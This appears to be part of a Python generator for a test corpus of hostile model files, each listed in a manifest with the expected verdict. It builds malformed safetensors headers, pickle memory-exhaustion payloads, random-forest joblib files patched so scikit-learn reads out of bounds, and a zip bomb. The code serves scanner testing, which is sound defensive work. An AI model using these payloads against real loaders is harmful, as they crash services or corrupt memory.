# --- safetensors ----------------------------------------------------------------------------------------------------

def safetensors(header_text: str | bytes, data: bytes = bytes(8), length: int | None = None) -> bytes:
    """A file from a raw header; `length` lies about it."""
    text = header_text.encode() if isinstance(header_text, str) else header_text
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def entry(name: str = "a", dtype: str = "F32", shape: str = "[2]", offsets: str = "[0,8]") -> str:
    """One tensor of a header."""
    return '"%s":{"dtype":"%s","shape":%s,"data_offsets":%s}' % (name, dtype, shape, offsets)


def add_safetensors() -> None:
    """Headers that the reference implementation refuses."""
    wrapped = {
        "overlap": safetensors("{%s,%s}" % (entry("a"), entry("b", offsets="[4,12]")), bytes(12)),
        "hole": safetensors("{%s,%s}" % (entry("a"), entry("b", offsets="[12,20]")), bytes(20)),
        "hole_at_start": safetensors("{%s}" % entry(offsets="[8,16]"), bytes(16)),
        "trailing": safetensors("{%s}" % entry(), bytes(8) + b"more"), "cut_data": safetensors("{%s}" % entry(), bytes(4)),
        "giant_length": safetensors("{}", b"", 2**63), "length_past_the_end": safetensors("{}", b"", 1000),
        "length_over_limit": safetensors("{}", b"", 100_000_001), "zero_length": safetensors("", bytes(8), 0),
        "short": b"\x02\x00\x00", "not_json": safetensors("{not json}"), "array": safetensors("[1,2]"),
        "not_utf8": safetensors(b'{"\xff":1}'), "deep": safetensors('{"a":' + "[" * 9000 + "]" * 9000 + "}"),
        "deep_objects": safetensors('{"a":' * 3000 + "1" + "}" * 3000),
        "duplicate": safetensors("{%s,%s}" % (entry("a"), entry("a"))),
        "duplicate_field": safetensors('{"a":{"dtype":"F32","dtype":"I32","shape":[2],"data_offsets":[0,8]}}'),
        "negative_shape": safetensors("{%s}" % entry(shape="[-2]")), "fraction_shape": safetensors("{%s}" % entry(shape="[2.5]")),
        "overflow": safetensors("{%s}" % entry(shape="[4294967296,4294967296,4]")),
        "huge_number": safetensors("{%s}" % entry(shape="[%s]" % ("9" * 300))),
        "size_mismatch": safetensors("{%s}" % entry(shape="[3]")), "reversed": safetensors("{%s}" % entry(offsets="[8,0]")),
        "offset_past_the_end": safetensors("{%s}" % entry(offsets="[0,8000]", shape="[2000]")),
        "offsets_overflow": safetensors("{%s}" % entry(offsets="[18446744073709551615,18446744073709551615]", shape="[0]")),
        "unknown_dtype": safetensors("{%s}" % entry(dtype="Q99")), "missing_dtype": safetensors('{"a":{"shape":[2],"data_offsets":[0,8]}}'),
        "extra_field": safetensors('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"more":1}}'),
        "metadata_not_text": safetensors('{"__metadata__":{"a":1},%s}' % entry()),
        "metadata_list": safetensors('{"__metadata__":[],%s}' % entry()),
        "trailing_json": safetensors("{%s} {}" % entry()), "nan_in_json": safetensors('{"a":NaN}'),
        "leading_space": safetensors("  {%s}" % entry()),
    }
    for name, data in wrapped.items():
        add(f"safetensors_{name}.safetensors", data, f"header: {name.replace('_', ' ')}", loader="safetensors", refused=True,
            integrity=["incomplete", "ambiguous"], trust=None,
            error=["malformed", "truncated", "limit_exceeded", "unsupported_feature"])
    for name in ("extra_field", "leading_space", "duplicate", "duplicate_field", "metadata_list"):
        CASES[f"safetensors_{name}.safetensors"][1]["integrity"] = ["complete", "incomplete", "ambiguous"]
    for name in ("extra_field", "leading_space", "duplicate"):
        CASES[f"safetensors_{name}.safetensors"][1]["refused"] = False


# --- exhaustion -----------------------------------------------------------------------------------------------------

def add_exhaustion() -> None:
    """Small files that ask for much."""
    lists = op.EMPTY_LIST + op.put(0) + b"".join(op.MARK + op.get(index) * 10 + op.LIST + op.put(index + 1) for index in range(60))
    limits = {
        "memo_index": (op.binint1(1) + op.long_binput(2**32 - 1) + op.STOP, "trusted", ["complete"]),
        "bytearray8": (op.proto(5) + op.bytearray8(b"x", 2**63) + op.STOP, None, ["incomplete"]),
        "bytes8": (op.proto(4) + b"\x8e" + struct.pack("<Q", 2**40) + b"x.", None, ["incomplete"]),
        "unicode8": (op.proto(4) + b"\x8d" + struct.pack("<Q", 2**64 - 1) + b"x.", None, ["incomplete"]),
        "binstring_negative": (b"T" + struct.pack("<i", -5) + b"abc.", None, ["incomplete"]),
        "long4_negative": (b"\x8b" + struct.pack("<i", -1) + b"abc.", None, ["incomplete"]),
        "long4_huge": (b"\x8b" + struct.pack("<i", 2**31 - 1) + b"abc.", None, ["incomplete"]),
        "frame_huge": (op.proto(4) + op.frame(op.NONE + op.STOP, 2**63), None, ["ambiguous", "incomplete"]),
        "get_bomb": (lists + op.STOP, "trusted", ["complete"]),
        "dup_bomb": (op.MARK + op.EMPTY_LIST + op.DUP * 20000 + op.LIST + op.STOP, "trusted", ["complete"]),
        "marks": (op.MARK * 20000 + op.STOP, None, ["complete", "incomplete"]),
        "pops": (op.POP * 10 + op.STOP, None, ["incomplete"]),
        "stop_on_nothing": (op.STOP, None, ["incomplete"]),
        "append_to_nothing": (op.NONE + op.APPEND + op.STOP, None, ["incomplete"]),
        "setitems_odd": (op.EMPTY_DICT + op.MARK + op.NONE + op.SETITEMS + op.STOP, None, ["incomplete"]),
        "cycle": (op.EMPTY_LIST + op.put(0) + op.get(0) + op.APPEND + op.STOP, "trusted", ["complete"]),
        "cycle_of_calls": (op.EMPTY_LIST + op.put(0) + op.glob("collections", "OrderedDict") + op.get(0) + op.TUPLE1 + op.REDUCE
                           + op.APPEND + op.STOP, "trusted", ["complete"]),
        "nested_tuples": (op.proto(2) + op.EMPTY_TUPLE + op.TUPLE1 * 30000 + op.STOP, "trusted", ["complete"]),
        "nested_lists": (op.MARK * 5000 + op.LIST * 5000 + op.STOP, "trusted", ["complete"]),
        "nested_reduces": (op.proto(2) + op.EMPTY_TUPLE + b"".join(op.glob("builtins", "list") + b"\x85" + op.POP for _ in range(300)) + op.STOP,
                           None, ["complete", "incomplete"]),
        "int_digits": (op.int0("9" * 5000) + op.STOP, None, ["complete", "incomplete"]),
        "line_without_end": (b"V" + b"a" * 5000, None, ["incomplete"]),
        "protocol_255": (op.proto(255) + op.NONE + op.STOP, None, ["complete", "ambiguous", "incomplete"]),
        "bytes_length": (call("builtins", "bytes", op.long1(2**40)) + op.STOP, "review", ["complete"]),
        "bytearray_length": (call("builtins", "bytearray", op.long1(2**36)) + op.STOP, "review", ["complete"]),
        "endless_list": (call("builtins", "list", call("itertools", "repeat", op.binint1(1))) + op.STOP, "review", ["complete"]),
        "endless_set": (call("builtins", "set", call("itertools", "count")) + op.STOP, "review", ["complete"]),
        "long_range": (call("builtins", "list", call("builtins", "range", op.long1(2**36))) + op.STOP, "review", ["complete"]),
        "array_shape": (call("numpy", "ndarray", op.long1(2**36) + op.TUPLE1) + op.STOP, "review", ["complete"]),
        "huge_array": (huge_array(), None, ["incomplete", "ambiguous"]),
    }
    for name, (data, trust, integrity) in limits.items():
        expected = {"trust": trust} if trust else {}
        add(f"exhaust_{name}.pkl", data, f"exhaustion: {name.replace('_', ' ')}", loader=None, integrity=integrity,
            error=["malformed", "truncated", "limit_exceeded", "unknown_content"], **expected)


def huge_array() -> bytes:
    """A numpy array whose shape claims 2**60 items over eight bytes of data."""
    data = pickle.dumps(np.arange(1, dtype=np.float64), 2)
    assert data.count(b"K\x01\x85") == 1
    return data.replace(b"K\x01\x85", op.long1(2**60) + op.TUPLE1)


def add_trees() -> None:
    """Forests whose nodes point out of range: scikit-learn would read past its arrays."""
    X = [[1, 2], [3, 4], [5, 6], [7, 8]]
    for name, field, value in (("child", "left_child", 10**9), ("negative_child", "right_child", -77),
                               ("feature", "feature", 10**6), ("loop", "left_child", 0)):
        forest = RandomForestClassifier(n_estimators=2, random_state=42, max_features=None, bootstrap=False).fit(X, [0, 1, 0, 1])
        add(f"tree_{name}.joblib", patched_forest(forest, field, value), f"tree node: {name.replace('_', ' ')} out of range",
            loader=None, trust="trusted", integrity=["complete", "incomplete", "ambiguous"])


def patched_forest(forest: RandomForestClassifier, field: str, value: int) -> bytes:
    """The joblib file of a forest with one field of its first tree's root changed in the bytes."""
    nodes = forest.estimators_[0].tree_.__getstate__()["nodes"]
    data = dumped(forest)
    at = data.index(nodes.tobytes()) + nodes.dtype.fields[field][1]
    return patch(data, at, struct.pack("<q", value))


# --- writing --------------------------------------------------------------------------------------------------------

def write_big(folder: Path) -> None:
    """Files that are too large to keep: a million nested tuples, a deep list, a zip bomb, a long memo."""
    folder.mkdir(parents=True, exist_ok=True)
    million = 1_000_000
    big = {"nested_tuples.pkl": op.proto(2) + op.EMPTY_TUPLE + op.TUPLE1 * million + op.STOP,
           "nested_lists.pkl": op.MARK * million + op.LIST * million + op.STOP,
           "nested_dicts.pkl": (op.MARK + op.NONE) * million + op.DICT * million + op.STOP,
           "dup.pkl": op.MARK + op.EMPTY_LIST + op.DUP * (3 * million) + op.LIST + op.STOP,
           "bomb.joblib": zlib.compress(bytes(400 << 20), 9)}
    for name, data in big.items():
        (folder / name).write_bytes(data)
    (folder / "manifest.json").write_text(json.dumps({name: {"integrity": ["complete", "incomplete", "ambiguous"], "error": [
        "malformed", "truncated", "limit_exceeded", "unknown_content", "unsupported_content", "no_room"]} for name in big}, indent=1) + "\n")


def main() -> None:
    """Writes the family and its manifest."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parents[1] / "hostile")
    parser.add_argument("--big", type=Path, help="write only the large files, here")
    options = parser.parse_args()
    if options.big:
        write_big(options.big)
        return
    for make in (add_controls, add_memo, add_names, add_callables, add_code, add_nested, add_nested_compressed, add_poisoning, add_unresolved,
                 add_frames, add_streams, add_joblib, add_npy, add_npz, add_safetensors, add_exhaustion, add_trees):
        make()
    folder = options.out
    folder.mkdir(parents=True, exist_ok=True)
    for name, (data, _) in CASES.items():
        (folder / name).write_bytes(data)
    manifest = {name: case for name, (_, case) in sorted(CASES.items())}
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n", encoding="utf-8")
    expectation.write_versions(folder, "make_hostile.py")


if __name__ == "__main__":
    main()
